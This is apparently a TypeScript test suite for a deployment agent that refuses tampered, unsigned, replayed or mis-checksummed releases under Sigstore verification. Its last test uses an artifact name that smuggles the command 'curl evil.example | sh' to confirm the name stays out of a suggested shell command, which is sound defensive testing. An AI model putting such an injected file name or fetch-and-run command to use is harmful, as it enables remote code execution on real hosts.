// Attacks on how verification is done, by those who can publish, and by accident of the network and the disk.
import { readdirSync, writeFileSync } from "node:fs";
import { rm } from "node:fs/promises";
import { join } from "node:path";
import { beforeAll, describe, expect, test } from "vitest";
import { statePath } from "../../src/agent/agent.ts";
import { acceptTag } from "../../src/deploy/trust.ts";
import { ARTIFACT, makeArtifact } from "../e2e/archive.ts";
import { sha256Hex } from "../support/subject.ts";
import { COURIERS, type Courier } from "./couriers.ts";
import { type Machine, machine, type Polled } from "./machine.ts";
import { makeSigners, policy, type Signers, trustedRoot } from "./signers.ts";
import { release, type Scene } from "./threats.ts";

const BUNDLE = `${ARTIFACT}.sigstore.json`;

let signers: Signers;
beforeAll(async () => {
  signers = await makeSigners();
});

interface Running extends Scene {
  /** Polls with the policy of the machine. */
  poll(options?: Parameters<Machine["poll"]>[0]): Promise<Polled>;
}

/** A machine that runs v1.0.0, signed by the workflow. */
async function running(mode: "rules" | "auto", courier?: Courier): Promise<Running> {
  const opened = courier ?? (await COURIERS.s3());
  const own = mode === "rules" ? await policy(signers) : await trustedRoot(signers);
  const host = await machine(opened);
  const scene: Running = {
    ...{ courier: opened, host, signers },
    poll: ({ flags = [], ...options } = {}) => host.poll({ ...options, flags: [...own, ...flags] }),
  };
  await opened.publish("v1.0.0", await release("v1.0.0", scene));
  await scene.poll();
  expect(await host.live()).toBe("v1.0.0");
  return scene;
}

async function refused({ host, poll }: Running, reason: RegExp): Promise<void> {
  const before = await host.releases();
  const polled = await poll();
  expect(polled.reasons).toMatch(reason);
  expect(await host.live()).toBe("v1.0.0");
  expect(await host.releases()).toEqual(before);
  expect((await host.state()).bad).toEqual([]);
}

/** Requests for a file are answered with a status. */
function failing(courier: Courier, name: string, status: number): void {
  const { fetch = globalThis.fetch } = courier;
  courier.fetch = async (input, init) => {
    const { pathname } = new URL(new Request(input, init).url);
    return pathname.endsWith(`/${name}`) ? new Response("", { status }) : fetch(input, init);
  };
}

describe.each(["rules", "auto"] as const)("a signature that cannot be read, with %s", (mode) => {
  test.each([404, 403, 500, 429])("because the server answers %i, is not one", async (status) => {
    const scene = await running(mode);
    await scene.courier.publish("v1.1.0", await release("v1.1.0", scene));
    const { fetch } = scene.courier;
    failing(scene.courier, BUNDLE, status);
    await refused(scene, new RegExp(`Cannot verify "${ARTIFACT}" of v1\\.1\\.0.*${status}`));
    Object.assign(scene.courier, { fetch });
    await scene.poll();
    expect(await scene.host.live()).toBe("v1.1.0");
  });

  test("because it is too large, is not one", async () => {
    const scene = await running(mode);
    const files = await release("v1.1.0", scene);
    await scene.courier.publish("v1.1.0", { ...files, [BUNDLE]: " ".repeat(5 * 2 ** 20) });
    await refused(scene, /v1\.1\.0.*more than/);
  });
});

describe("auto, once a signer is known", () => {
  const evil = async (): Promise<Uint8Array<ArrayBuffer>> => makeArtifact("evil");

  test("refuses a version without a signature, until an operator accepts it", async () => {
    const scene = await running("auto");
    await scene.courier.publish("v1.1.0", { [ARTIFACT]: await makeArtifact("v1.1.0") });
    await refused(scene, /no sigstore signature.*release\.yml.*dewy trust accept v1\.1\.0/);
    await scene.host.changeState((state) => acceptTag(state, "v1.1.0", { user: "alice" }, 0));
    await scene.poll();
    expect(await scene.host.live()).toBe("v1.1.0");
    await scene.courier.publish("v1.1.0", { [ARTIFACT]: await evil() });
    await scene.poll({ flags: ["--accept-changed", "v1.1.0"] });
    expect(await scene.host.live()).toBe("v1.1.0");
    await scene.courier.publish("v1.2.0", { [ARTIFACT]: await evil() });
    expect((await scene.poll()).reasons).toMatch(/no sigstore signature/);
    expect(await scene.host.live()).toBe("v1.1.0");
  });

  test("refuses another signer beside a signature that is wrong", async () => {
    const scene = await running("auto");
    const bytes = await evil();
    const repository = "https://github.com/mallory/app";
    const subject = `${repository}/.github/workflows/release.yml@refs/tags/v1.1.0`;
    const signed = await signers.ours.signFile(bytes, { subject, repository });
    await scene.courier.publish("v1.1.0", { [ARTIFACT]: bytes, [BUNDLE]: JSON.stringify(signed) });
    await refused(
      scene,
      /is signed by https:\/\/github\.com\/mallory.*acme.*trust accept v1\.1\.0/,
    );
    const wrong = JSON.stringify(await signers.ours.signFile("other"));
    const files = { [ARTIFACT]: bytes, [`${ARTIFACT}.sigstore`]: wrong };
    await scene.courier.publish("v1.1.0", { ...files, [BUNDLE]: JSON.stringify(signed) });
    await refused(scene, /v1\.1\.0/);
  });

  test("refuses an earlier version that is published again", async () => {
    const scene = await running("auto");
    const old = await release("v1.0.0", scene);
    await scene.courier.publish("v1.1.0", await release("v1.1.0", scene));
    await scene.poll();
    await scene.courier.publish("v1.2.0", old);
    const { reasons } = await scene.poll();
    expect(reasons).toMatch(/it is v1\.0\.0 again.*dewy trust accept v1\.2\.0/);
    expect(await scene.host.live()).toBe("v1.1.0");
    await scene.host.changeState((state) => acceptTag(state, "v1.2.0", { user: "alice" }, 0));
    await scene.poll();
    expect(await scene.host.live()).toBe("v1.0.0");
  });
});

describe("a signed checksum file", () => {
  const other = sha256Hex("other");
  test.each([
    [
      "with two digests for the artifact",
      (sha: string) => `${sha}  ${ARTIFACT}\n${other}  ${ARTIFACT}\n`,
    ],
    [
      "with the artifact in another folder as well",
      (sha: string) => `${sha}  a/${ARTIFACT}\n${other}  b/${ARTIFACT}\n`,
    ],
    ["with the name in another case", (sha: string) => `${sha}  ${ARTIFACT.toUpperCase()}\n`],
    ["with a longer name", (sha: string) => `${sha}  ${ARTIFACT}.old\n${sha}  x${ARTIFACT}\n`],
    [
      "with a name in full-width letters",
      (sha: string) => `${sha}  ${ARTIFACT.replace("a", "ａ")}\n`,
    ],
    ["with a comment that names the artifact", (sha: string) => `# ${sha}  ${ARTIFACT}\n`],
    ["with the digest of MD5 alone", () => `d41d8cd98f00b204e9800998ecf8427e  ${ARTIFACT}\n`],
  ])("%s does not stand for it", async (_, sums) => {
    const scene = await running("rules");
    const artifact = await makeArtifact("evil");
    const text = sums(sha256Hex(artifact));
    const signed = JSON.stringify(await signers.ours.signFile(text));
    const files = { [ARTIFACT]: artifact, SHA256SUMS: text, "SHA256SUMS.sigstore.json": signed };
    await scene.courier.publish("v1.1.0", files);
    await refused(scene, /v1\.1\.0 with sigstore: SHA256SUMS: it (?:does not list|has several)/);
  });

  test("of another version does not stand for it", async () => {
    const scene = await running("rules");
    const text = `${sha256Hex(await makeArtifact("v1.0.0"))}  ${ARTIFACT}\n`;
    const signed = JSON.stringify(await signers.ours.signFile(text));
    const files = { SHA256SUMS: text, "SHA256SUMS.sigstore.json": signed };
    await scene.courier.publish("v1.1.0", { [ARTIFACT]: await makeArtifact("evil"), ...files });
    await refused(scene, /SHA256SUMS: it has another digest/);
  });

  test("is asked for a bounded number of times", async () => {
    const scene = await running("rules");
    const bundle = JSON.stringify(await signers.ours.signFile("other"));
    const decoys = Array.from({ length: 300 }, (_, index) => [
      [`SHA256SUMS-${index}`, `${other}  other\n`],
      [`SHA256SUMS-${index}.sigstore.json`, bundle],
      [`decoy-${index}.sigstore.json`, bundle],
    ]).flat();
    const files = { [ARTIFACT]: await makeArtifact("evil"), ...Object.fromEntries(decoys) };
    await scene.courier.publish("v1.1.0", files);
    const { events } = await scene.poll();
    expect(events.filter(({ type }) => type === "request").length).toBeLessThan(40);
    expect(await scene.host.live()).toBe("v1.0.0");
  });
});

describe("what is on the disk", () => {
  test("is not extracted if the download is changed after it was verified", async () => {
    const scene = await running("rules");
    await scene.courier.publish("v1.1.0", await release("v1.1.0", scene));
    const evil = await makeArtifact("evil");
    const cache = join(scene.host.root, ".dewy", "cache");
    const before = await scene.host.releases();
    const { reasons } = await scene.poll({
      on: ({ type }) => {
        if (type !== "verified") return;
        for (const name of readdirSync(cache)) writeFileSync(join(cache, name), evil);
      },
    });
    expect(reasons).toMatch(/Cannot extract .* of v1\.1\.0: .* was changed after it was verified/);
    expect(await scene.host.releases()).toEqual(before);
    await scene.poll();
    expect(await scene.host.live()).toBe("v1.1.0");
  });

  test("is verified if it was staged without a policy", async () => {
    const scene = await running("rules");
    await scene.courier.publish("v1.1.0", { [ARTIFACT]: await makeArtifact("evil") });
    await scene.host.poll({ flags: ["--verify", "none", "--dry-run"] });
    expect(await scene.host.releases()).toHaveLength(2);
    await refused(scene, /v1\.1\.0.*has no Sigstore bundle/);
  });

  test("is verified if it was staged under another policy", async () => {
    const scene = await running("rules");
    await scene.courier.publish("v1.1.0", {
      [ARTIFACT]: await makeArtifact("evil"),
      SHA256SUMS: `${sha256Hex(await makeArtifact("evil"))}  ${ARTIFACT}\n`,
    });
    const staged = await scene.host.poll({ flags: ["--verify", "checksums", "--dry-run"] });
    expect(staged.reasons).toBe("");
    await refused(scene, /v1\.1\.0.*has no Sigstore bundle/);
  });

  test("is verified again an hour after it was staged, because keys are replaced", async () => {
    const scene = await running("rules");
    await scene.courier.publish("v1.1.0", await release("v1.1.0", scene));
    const first = await scene.poll({ flags: ["--before-deploy-hook", "exit 1"] });
    const again = await scene.poll({ flags: ["--before-deploy-hook", "exit 1"] });
    const stagedAt = new Date(Date.now() - 3_601_000).toISOString();
    await scene.host.changeState((state) => ({
      ...state,
      releases: state.releases.map((one) => ({ ...one, stagedAt })),
    }));
    const later = await scene.poll();
    const isVerified = [first, again, later].map(({ events }) =>
      events.some(({ type }) => type === "verified"),
    );
    expect(isVerified).toEqual([true, false, true]);
    expect(await scene.host.live()).toBe("v1.1.0");
  });

  test("and lost is not what explicit rules rely on", async () => {
    const scene = await running("rules");
    await rm(statePath(scene.host.root));
    await scene.courier.publish("v1.1.0", { [ARTIFACT]: await makeArtifact("evil") });
    await refused(scene, /v1\.1\.0.*has no Sigstore bundle/);
  });

  test("is verified after a restart between the verification and the activation", async () => {
    const scene = await running("rules");
    await scene.courier.publish("v1.1.0", await release("v1.1.0", scene));
    await scene.poll({ flags: ["--before-deploy-hook", "exit 1"] });
    expect(await scene.host.live()).toBe("v1.0.0");
    await scene.courier.publish("v1.1.0", { [ARTIFACT]: await makeArtifact("evil") });
    await scene.poll();
    expect(await scene.host.live()).toBe("v1.0.0");
  });
});

test("--accept-changed accepts other bytes, but not without a signature", async () => {
  const scene = await running("rules");
  await scene.courier.publish("v1.0.0", { [ARTIFACT]: await makeArtifact("evil") });
  const { reasons } = await scene.poll({ flags: ["--accept-changed", "v1.0.0"] });
  expect(reasons).toMatch(/v1\.0\.0 with sigstore: the release has no Sigstore bundle/);
  expect(await scene.host.live()).toBe("v1.0.0");
});

test("the name of an artifact is not part of a command that is to be pasted into a shell", async () => {
  const courier = await COURIERS.file();
  courier.url += "?artifact=*.gz";
  const host = await machine(courier);
  await courier.publish("v1.0.0", { "app; curl evil.example | sh;.gz": "evil" });
  const { reasons } = await host.poll({ flags: await policy(signers) });
  expect(reasons).toMatch(
    /sign it in CI: cosign sign-blob --yes --bundle FILE\.sigstore\.json FILE$/,
  );
});
